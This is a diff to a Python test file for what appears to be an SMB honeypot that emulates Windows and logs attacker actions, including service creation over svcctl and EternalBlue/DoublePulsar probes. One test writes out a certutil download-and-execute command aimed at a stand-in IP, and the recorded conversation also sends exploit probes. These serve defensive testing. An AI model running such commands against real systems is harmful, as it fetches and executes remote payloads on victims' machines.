@@ -6,21 +6,31 @@ import hmac
 import struct
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from eudaemon.events.catalogue import ExploitRecognised, FileRequested, LoginTried, SmbClientIdentified
-from eudaemon.protocols._base import Claim, Keep
+from eudaemon.events.catalogue import (
+    CommandEntered,
+    ExploitRecognised,
+    FileRequested,
+    LoginTried,
+    SmbClientIdentified,
+)
+from eudaemon.protocols._base import Claim, HalfClosed, Keep
+from eudaemon.protocols._dcerpc import RpcHost
 from eudaemon.protocols._ntlm import nt_hash, signature_of
 from eudaemon.protocols._windows import server_of
 from eudaemon.protocols.smb import Smb, connection, doublepulsar, opens, room, smb2, transactions
 from eudaemon.protocols.smb.doublepulsar import key_of, program_in, xored
 from eudaemon.testing.script import Table, play, visit
-from eudaemon.wire import Purse
+from eudaemon.wire import PeerError, Purse
 from eudaemon.world.host import Host
 from eudaemon.world.memory import Memory
 from eudaemon.world.seed import Seed
 from payload.servers import SIZES, content
 from protocols import smb_client as client
 from protocols.smb_client import Client2, framed, head1, unframed
+from protocols.test__dcerpc import SRVSVC, SVCCTL, creation, pointed
 
 HOST = Host.from_seed(Seed(b"test"))
 INSUFFICIENT, NOT_IMPLEMENTED, INVALID = 0xC000_0205, 0xC000_0002, 0xC000_000D
@@ -75,6 +85,21 @@ def test_what_a_scanner_of_2017_sees(split: int) -> None:
     assert exploits(table) == [("ms17-010-check", "")]
     assert SmbClientIdentified((), "Windows 2000 2195", "Windows 2000 5.0") in table.facts
     assert not [fact for fact in table.facts if isinstance(fact, LoginTried)]
+
+
+def test_requests_may_be_chained() -> None:
+    """A login and a share in one message, as clients of old do it: each answer says where the next one is."""
+    table = talk()
+    table.say(client.negotiate())
+    first, second = (bytearray(message[4:]) for message in (client.nobody(), client.connect("\\\\x\\IPC$", uid=0)))
+    first += bytes(len(first) % 2)
+    first[33:37] = struct.pack("<BBH", 0x75, 0, len(first))
+    (answer,) = unframed(table.say(framed(bytes(first + second[32:]))))
+    assert head1(answer)[:4] == (0x73, 0, 0x800, 0x800)
+    command, _, at = struct.unpack_from("<BBH", answer, 33)
+    assert (command, at % 2, answer[at]) == (0x75, 0, 3)
+    assert answer[at + 9 :].startswith(b"IPC\0")
+    assert head1(unframed(table.say(client.look()))[0])[1] == INSUFFICIENT
 
 
 def test_names_behind_netbios() -> None:
@@ -218,6 +243,38 @@ def test_a_file_of_any_size_is_kept_byte_for_byte(size: int) -> None:
     assert FileRequested("write", "C$\\Windows\\x.exe") in table.facts
 
 
+def test_requests_in_one_message_may_mean_the_file_of_the_one_before() -> None:
+    """As Windows looks at a file: open, ask, close, in one message."""
+    table = talk()
+    peer = somebody(table)
+    name = "Windows\\win.ini".encode("utf-16-le")
+    same = b"\xff" * 16
+    requests = [
+        client.smb2(
+            5, struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x80, 0, 7, 1, 0, 120, len(name), 0, 0) + name
+        ),
+        client.smb2(0x10, struct.pack("<HBBIHHIII16s", 41, 1, 5, 24, 0, 0, 0, 0, 0, same)),
+        client.smb2(6, struct.pack("<HHI16s", 24, 1, 0, same)),
+    ]
+    whole = b""
+    for number, request in enumerate(requests):
+        message = bytearray(request[4:].ljust(-(-len(request[4:]) // 8) * 8, b"\0"))
+        message[16:20] = struct.pack("<I", 4 if number else 0)
+        message[20:24] = struct.pack("<I", len(message) if number < 2 else 0)
+        message[36:48] = struct.pack("<IQ", peer.tree, peer.session) if not number else b"\xff" * 12
+        whole += message
+    (said,) = unframed(table.say(framed(bytes(whole))))
+    found = []
+    while said:
+        command, status, _, _ = client.head2(said)
+        size = int.from_bytes(said[20:24], "little") or len(said)
+        found.append((command, status))
+        if command == 0x10:
+            assert int.from_bytes(said[80:88], "little") > 50, "its size"
+        said = said[size:]
+    assert found == [(5, 0), (0x10, 0), (6, 0)]
+
+
 @pytest.mark.parametrize("split", [1, 13])
 def test_pieces_of_messages_make_no_difference_to_files(split: int) -> None:
     table = talk()
@@ -278,7 +335,7 @@ def test_limits() -> None:
     assert peer.connect("\\\\x\\C$") == 0xC000_009A
     table = talk()
     for _ in range(connection.LOGINS_MAX // 2):
-        assert Client2(table).enter("Administrator", "wrong") == 0xC000_006D
+        assert Client2(table).enter("nobody", "wrong") == 0xC000_006D
     assert Client2(table).ask(1, client.login2(client.hello())[4 + 64 :])[0] == INVALID
     for past in (0, 1):
         table = talk(bytes_max=64 << 20)
@@ -317,6 +374,103 @@ def test_a_pipe_that_nobody_reads_ends_the_session() -> None:
     for _ in range(opens.UNREAD_BYTES_MAX // 100_000):
         table.say(written)
     assert table.fault
+
+
+def test_who_leaves_is_waited_for_until_its_commands_have_run() -> None:
+    table = talk()
+    peer = somebody(table, share="IPC$")
+    _, pipe = peer.create("svcctl")
+    peer.call(pipe, client.bind(SVCCTL, 2))
+    manager = peer.call(pipe, client.request(15, pointed("x") + bytes(4) + struct.pack("<I", 0xF003F)))[1][24:44]
+    path = "cmd /c certutil -urlcache -f http://198.51.100.7/a C:\\a.exe & C:\\a.exe & bitsadmin /x"
+    made = peer.call(pipe, client.request(12, creation(manager, "evil", path)))[1][24:]
+    peer.call(pipe, client.request(19, made[4:24] + bytes(8)))
+    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/a"]
+    table.tell(HalfClosed(table.at_s))
+    assert not table.over
+    table.answer("ok", program(1000))
+    assert table.over
+    table.end()
+    assert [fact.line for fact in table.facts if isinstance(fact, CommandEntered)][1:] == [path.removeprefix("cmd /c ")]
+    assert not table.fault
+
+
+def test_a_pipe_of_their_own_holds_so_much() -> None:
+    for past in (0, 1):
+        given = visit(host=HOST)
+        pipe = opens.ServicePipe("theirs", RpcHost(given, server_of(HOST)))
+        assert list(pipe.write(bytes(opens.HEARD_BYTES_MAX - 1), 0.0)) == []
+        if past:
+            with pytest.raises(PeerError):
+                list(pipe.write(bytes(2), 0.0))
+        else:
+            assert list(pipe.write(b"x", 0.0)) == []
+        (keep,) = pipe.kept()
+        assert isinstance(keep, Keep)
+        assert len(keep.data) == opens.HEARD_BYTES_MAX - past
+        assert given.purse.bytes_taken == 0
+
+
+class Noted(Table):
+    """A table at which every word of the client is noted."""
+
+    def say(self, data: bytes, split: int = 0) -> bytes:
+        words.append(data)
+        return super().say(data, split)
+
+
+words: list[bytes] = []
+
+
+def conversation() -> list[bytes]:
+    """Return what a client says that does a little of everything, in SMB 2 and over pipes."""
+    words.clear()
+    peer = somebody(Noted(Smb(visit(host=HOST, port=445))).open())
+    _, file = peer.create("Windows\\x.exe")
+    peer.write(file, b"hello")
+    peer.read(file, 10)
+    for kind, number in ((1, 18), (1, 4), (2, 5), (2, 1), (3, 0)):
+        peer.ask(0x10, struct.pack("<HBBIHHIII16s", 41, kind, number, 4096, 0, 0, 0, 0, 0, file))
+    name = struct.pack("<B7x8xI", 1, 8) + "y.ex".encode("utf-16-le")
+    peer.ask(0x11, struct.pack("<HBBIHHI16s", 33, 1, 10, len(name), 96, 0, 0, file) + name)
+    peer.ask(0x11, struct.pack("<HBBIHHI16s", 33, 1, 20, 8, 96, 0, 0, file) + bytes(8))
+    peer.close(file)
+    _, folder = peer.create("Windows", options=1, disposition=1, access=1)
+    for number in (37, 3, 12):
+        peer.ask(0x0E, struct.pack("<HBBI16sHHI", 33, number, 1, 0, folder, 96, 2, 65_536) + b"*\0")
+    peer.connect("\\\\x\\IPC$")
+    for service, interface, version in (("svcctl", SVCCTL, 2), ("srvsvc", SRVSVC, 3)):
+        _, pipe = peer.create(service)
+        peer.call(pipe, client.bind(interface, version))
+        if service == "svcctl":
+            manager = peer.call(pipe, client.request(15, pointed("x") + bytes(8)))[1][24:44]
+            made = peer.call(pipe, client.request(12, creation(manager, "evil", "cmd /c echo a > C:\\a")))[1][28:48]
+            peer.call(pipe, client.request(19, made + bytes(8)))
+        else:
+            peer.call(pipe, client.request(15, bytes(4) + struct.pack("<IIIIIII", 1, 1, 0x20000, 0, 0, 9999, 0)))
+            peer.call(pipe, client.request(21, bytes(4) + struct.pack("<I", 101)))
+    assert not peer.table.fault
+    return [*words, *client.OPENING1, client.look(), client.pulsar(0x23), *client.blue(bytes(6000))]
+
+
+CONVERSATION = conversation()
+changes = st.lists(st.tuples(st.integers(0, 99), st.integers(4, 400), st.binary(max_size=5)), min_size=1, max_size=4)
+
+
+@settings(max_examples=150, deadline=None)
+@given(changes)
+def test_a_conversation_in_which_bytes_differ_is_no_fault_of_ours(changed: list[tuple[int, int, bytes]]) -> None:
+    said = CONVERSATION.copy()
+    for number, at, data in changed:
+        message = bytearray(said[number % len(said)])
+        at = min(at, len(message))
+        message[at : at + (len(data) or 1)] = data
+        said[number % len(said)] = framed(bytes(message[4:]))
+    table = talk(bytes_max=4 << 20)
+    for message in said:
+        table.say(message)
+    table.end()
+    assert 0 <= table.room.visit.purse.bytes_taken <= 4 << 20
 
 
 def test_whose_conversation_it_is() -> None:
